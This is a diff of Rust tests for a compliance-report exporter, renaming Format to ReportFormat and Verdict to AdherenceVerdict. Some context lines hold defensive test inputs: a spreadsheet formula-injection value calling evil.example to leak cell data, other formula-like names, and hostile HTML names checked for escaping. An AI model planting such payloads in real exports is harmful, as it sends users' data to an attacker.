@@ -210,7 +210,7 @@ impl Collect {
     }
 }
 
-async fn render(store: &Store, report: &Report, format: Format) -> Collect {
+async fn render(store: &Store, report: &Report, format: ReportFormat) -> Collect {
     let mut sink = Collect::default();
     report
         .write(format, store.reader(), &mut sink)
@@ -352,7 +352,7 @@ async fn p95_is_the_nearest_rank_on_an_eleven_value_list(backend: Backend) {
 async fn csv_parses_back_with_one_row_per_agent_and_empty_unknowns(backend: Backend) {
     let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
-    let text = render(&store, &report, Format::Csv).await.text();
+    let text = render(&store, &report, ReportFormat::Csv).await.text();
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let headers = reader.headers().unwrap().clone();
     assert_eq!(headers.iter().collect::<Vec<_>>(), csv_export::COLUMNS);
@@ -392,7 +392,7 @@ async fn a_time_zone_renders_the_window_in_local_time(backend: Backend) {
     )
     .await
     .unwrap();
-    let text = render(&store, &report, Format::Csv).await.text();
+    let text = render(&store, &report, ReportFormat::Csv).await.text();
     assert!(
         text.contains(",2026-11-20T04:00:00.000-05:00,2026-11-20T05:00:00.000-05:00"),
         "{text}"
@@ -409,7 +409,7 @@ async fn a_time_zone_renders_the_window_in_local_time(backend: Backend) {
 async fn json_has_the_window_the_agents_and_every_attempt_of_the_window(backend: Backend) {
     let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
-    let text = render(&store, &report, Format::Json).await.text();
+    let text = render(&store, &report, ReportFormat::Json).await.text();
     let json: serde_json::Value = serde_json::from_str(&text).unwrap();
     assert_eq!(json["from"], "2026-11-20T09:00:00.000Z");
     assert_eq!(json["to"], "2026-11-20T10:00:00.000Z");
@@ -446,7 +446,7 @@ async fn html_has_one_bar_group_per_agent_and_escapes_a_hostile_agent_id(backend
     .await;
     let report = build(&store, minutes(120)).await;
     assert_eq!(report.agents.len(), 4);
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert!(html.starts_with("<!DOCTYPE html>"));
     assert!(html.contains("<svg"));
     assert_eq!(html.matches("<g class=\"agent\">").count(), 4);
@@ -480,7 +480,7 @@ async fn a_large_attempt_log_reaches_the_sink_in_bounded_chunks(backend: Backend
     }
     tx.commit().await.unwrap();
     let report = build(&store, minutes(120)).await;
-    let sink = render(&store, &report, Format::Json).await;
+    let sink = render(&store, &report, ReportFormat::Json).await;
     assert!(
         sink.chunks.len() > 3,
         "streamed, not one buffer: {}",
@@ -504,8 +504,8 @@ fn windows_must_be_ordered_and_at_most_366_days() {
             .contains("366 days")
     );
     assert_eq!(Window::checked(t0(), minutes(60)), Ok(window()));
-    assert_eq!("HTML".parse::<Format>(), Ok(Format::Html));
-    assert!("xml".parse::<Format>().unwrap_err().contains("`xml`"));
+    assert_eq!("HTML".parse::<ReportFormat>(), Ok(ReportFormat::Html));
+    assert!("xml".parse::<ReportFormat>().unwrap_err().contains("`xml`"));
 }
 
 /// The fixture plus schedules (threshold two minutes; times UTC):
@@ -600,7 +600,7 @@ async fn adherence_matches_the_hand_computed_fixture_in_every_format(backend: Ba
     assert_eq!(a2.scheduled_seconds, None);
     assert_eq!(a2.adherence_pct, None);
 
-    let csv = render(&store, &report, Format::Csv).await.text();
+    let csv = render(&store, &report, ReportFormat::Csv).await.text();
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     let headers = reader.headers().unwrap().clone();
     let column = headers.iter().position(|h| h == "adherence_pct").unwrap();
@@ -610,7 +610,7 @@ async fn adherence_matches_the_hand_computed_fixture_in_every_format(backend: Ba
         .collect();
     assert_eq!(pct, ["83.33333333333333", "", "", "0"]);
 
-    let json = render(&store, &report, Format::Json).await.text();
+    let json = render(&store, &report, ReportFormat::Json).await.text();
     let json: serde_json::Value = serde_json::from_str(&json).unwrap();
     assert_eq!(json["agents"][0]["scheduled_seconds"], 3600.0);
     assert_eq!(json["agents"][0]["in_adherence_seconds"], 3000.0);
@@ -620,7 +620,7 @@ async fn adherence_matches_the_hand_computed_fixture_in_every_format(backend: Ba
         serde_json::Value::Null
     );
 
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert!(html.contains("<th>Adherence exceptions</th>"));
     assert!(
         html.contains(
@@ -704,7 +704,7 @@ async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format
     assert_eq!(a6.in_adherence_seconds, Some(2.0 * 3600.0));
     assert_eq!(a6.adherence_pct, Some(100.0), "not 25 %");
 
-    let csv = render(&store, &report, Format::Csv).await.text();
+    let csv = render(&store, &report, ReportFormat::Csv).await.text();
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     let headers = reader.headers().unwrap().clone();
     let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
@@ -715,7 +715,7 @@ async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format
         .unwrap();
     assert_eq!(&row[column("adherence_pct")], "100");
     assert_eq!(&row[column("unobserved_seconds")], "21600");
-    let json = render(&store, &report, Format::Json).await.text();
+    let json = render(&store, &report, ReportFormat::Json).await.text();
     let json: serde_json::Value = serde_json::from_str(&json).unwrap();
     let a6 = json["agents"]
         .as_array()
@@ -724,7 +724,7 @@ async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format
         .find(|a| a["agent_id"] == "a6")
         .unwrap();
     assert_eq!(a6["unobserved_seconds"], 21600.0);
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert!(
         html.contains("<td>100.0</td><td>8:00:00</td><td>2:00:00</td><td>6:00:00</td>"),
         "{html}"
@@ -802,7 +802,7 @@ async fn authorised_and_neutral_time_are_reported_on_their_own_and_left_out_of_a
     assert_eq!(a7.adherence_pct, Some(6.0 * 100.0 / 6.5));
     assert_eq!(a7.adherence_exceptions, Some(1), "12:30-13:00 not working");
 
-    let csv = render(&store, &report, Format::Csv).await.text();
+    let csv = render(&store, &report, ReportFormat::Csv).await.text();
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     let headers = reader.headers().unwrap().clone();
     let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
@@ -813,7 +813,7 @@ async fn authorised_and_neutral_time_are_reported_on_their_own_and_left_out_of_a
         .unwrap();
     assert_eq!(&row[column("neutral_seconds")], "3600");
     assert_eq!(&row[column("authorised_seconds")], "1800");
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert!(
         html.contains("<td>92.3</td><td>8:00:00</td><td>6:00:00</td><td>0:00:00</td><td>0:30:00</td><td>1:00:00</td><td>1</td>"),
         "{html}"
@@ -868,7 +868,7 @@ async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas(backend: 
     }
     let report = build(&store, minutes(120)).await;
     assert_eq!(report.agents.len(), 3 + FORMULA_IDS.len());
-    let text = render(&store, &report, Format::Csv).await.text();
+    let text = render(&store, &report, ReportFormat::Csv).await.text();
     let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
         .records()
         .map(Result::unwrap)
@@ -902,7 +902,7 @@ async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas(backend: 
 async fn csv_has_name_and_team_after_the_window_empty_when_unknown(backend: Backend) {
     let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
-    let text = render(&store, &report, Format::Csv).await.text();
+    let text = render(&store, &report, ReportFormat::Csv).await.text();
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let headers: Vec<String> = reader.headers().unwrap().iter().map(Into::into).collect();
     assert_eq!(
@@ -940,7 +940,7 @@ async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas(bac
     let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     name_agents(&store, &[named("a1", hyperlink, Some(("+t_1", "@SUM(1)")))]).await;
     let report = build(&store, minutes(120)).await;
-    let text = render(&store, &report, Format::Csv).await.text();
+    let text = render(&store, &report, ReportFormat::Csv).await.text();
     let row = csv::Reader::from_reader(text.as_bytes())
         .records()
         .next()
@@ -959,7 +959,7 @@ async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas(bac
 async fn json_agents_carry_name_team_id_and_team(backend: Backend) {
     let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
-    let text = render(&store, &report, Format::Json).await.text();
+    let text = render(&store, &report, ReportFormat::Json).await.text();
     let json: serde_json::Value = serde_json::from_str(&text).unwrap();
     let agents = &json["agents"];
     assert_eq!(agents[0]["name"], "Ada Lovelace");
@@ -1035,7 +1035,7 @@ async fn html_groups_by_team_and_lists_worst_adherence_first_with_unknown_figure
         ],
         None,
     );
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert_eq!(
         page_order(&html),
         [
@@ -1094,7 +1094,7 @@ async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team(backend: 
         ],
         None,
     );
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert!(
         !html.contains("<script"),
         "no script element, not even the name's"
@@ -1110,7 +1110,7 @@ async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team(backend: 
 async fn html_title_and_heading_name_the_window_in_the_chosen_time_zone(backend: Backend) {
     let (store, _dir) = temp_store_on(backend).await;
     let berlin = report_of(vec![], Some(parse_zone("Europe/Berlin").unwrap()));
-    let html = render(&store, &berlin, Format::Html).await.text();
+    let html = render(&store, &berlin, ReportFormat::Html).await.text();
     let expected = "Compliance report 2026-11-20 10:00 – 2026-11-20 11:00 (Europe/Berlin)";
     assert!(
         html.contains(&format!("<title>{expected}</title>")),
@@ -1119,7 +1119,7 @@ async fn html_title_and_heading_name_the_window_in_the_chosen_time_zone(backend:
     assert!(html.contains(&format!("<h1>{expected}</h1>")));
 
     let utc = report_of(vec![], None);
-    let html = render(&store, &utc, Format::Html).await.text();
+    let html = render(&store, &utc, ReportFormat::Html).await.text();
     assert!(
         html.contains("<title>Compliance report 2026-11-20 09:00 – 2026-11-20 10:00 (UTC)</title>")
     );
@@ -1144,7 +1144,7 @@ async fn html_tables_take_the_page_width_with_fixed_shares_and_wrap_long_names(b
         vec![summary("u_01", Some(long), Some(("t_1", long)), Some(1.0))],
         None,
     );
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
     assert!(style.contains("table.agents{width:100%;table-layout:fixed}"));
     assert!(style.contains("table.agents th,table.agents td{overflow-wrap:anywhere}"));
@@ -1172,7 +1172,7 @@ async fn html_tables_take_the_page_width_with_fixed_shares_and_wrap_long_names(b
 
 /// Two rules, versioned `r-7f3a`, with a three-minute default grace.
 fn ruled() -> Judging {
-    use crate::domain::adherence_rules::{AdherenceRule, Verdict};
+    use crate::domain::adherence_rules::{AdherenceRule, AdherenceVerdict};
     let rule = |activity: &str, state: &str, verdict| AdherenceRule {
         activity: activity.parse().unwrap(),
         states: vec![state.parse().unwrap()],
@@ -1182,8 +1182,8 @@ fn ruled() -> Judging {
     };
     Judging {
         rules: vec![
-            rule("Lunch", "NOT_READY:LUNCH", Verdict::In),
-            rule("Training", "PAUSED", Verdict::Neutral),
+            rule("Lunch", "NOT_READY:LUNCH", AdherenceVerdict::In),
+            rule("Training", "PAUSED", AdherenceVerdict::Neutral),
         ],
         version: Some("r-7f3a".to_owned()),
         threshold: chrono::TimeDelta::minutes(3),
@@ -1207,7 +1207,7 @@ async fn the_json_report_carries_definitions_of_every_figure_in_its_zone() {
         .await
         .unwrap();
     let json: serde_json::Value =
-        serde_json::from_str(&render(&store, &report, Format::Json).await.text()).unwrap();
+        serde_json::from_str(&render(&store, &report, ReportFormat::Json).await.text()).unwrap();
     let definitions = &json["definitions"];
     assert_eq!(definitions["of"], "compliance");
     assert_eq!(definitions["time_zone"], "Europe/Berlin");
@@ -1253,7 +1253,7 @@ async fn the_definitions_name_the_rules_version_and_grace_when_rules_are_configu
         .await
         .unwrap();
     let json: serde_json::Value =
-        serde_json::from_str(&render(&store, &report, Format::Json).await.text()).unwrap();
+        serde_json::from_str(&render(&store, &report, ReportFormat::Json).await.text()).unwrap();
     let rules = &json["definitions"]["adherence_rules"];
     assert_eq!(rules["rules"], 2);
     assert_eq!(rules["version"], "r-7f3a");
@@ -1276,7 +1276,7 @@ async fn the_definitions_name_the_rules_version_and_grace_when_rules_are_configu
         "{}",
         pct.definition
     );
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     assert!(html.contains("2 adherence rules, version r-7f3a"));
     let companion = String::from_utf8(adherence.to_csv()).unwrap();
     assert!(companion.contains("2 adherence rules, version r-7f3a"));
@@ -1298,7 +1298,7 @@ async fn the_definitions_name_the_rules_version_and_grace_when_rules_are_configu
 async fn the_html_page_ends_with_a_definitions_section_of_every_term() {
     let (store, _dir) = fixture(Backend::Sqlite).await;
     let report = build(&store, minutes(120)).await;
-    let html = render(&store, &report, Format::Html).await.text();
+    let html = render(&store, &report, ReportFormat::Html).await.text();
     let section = html
         .split("<section class=\"definitions\" id=\"definitions\"><h2>Definitions</h2>")
         .nth(1)
@@ -1329,7 +1329,7 @@ async fn the_html_page_ends_with_a_definitions_section_of_every_term() {
 async fn the_csv_report_stays_strict_csv_and_its_companion_defines_each_column() {
     let (store, _dir) = fixture(Backend::Sqlite).await;
     let report = build(&store, minutes(120)).await;
-    let body = render(&store, &report, Format::Csv).await.text();
+    let body = render(&store, &report, ReportFormat::Csv).await.text();
     // No comment lines: the first record is the header, and every record has as many
     // fields as it.
     let mut reader = csv::ReaderBuilder::new()
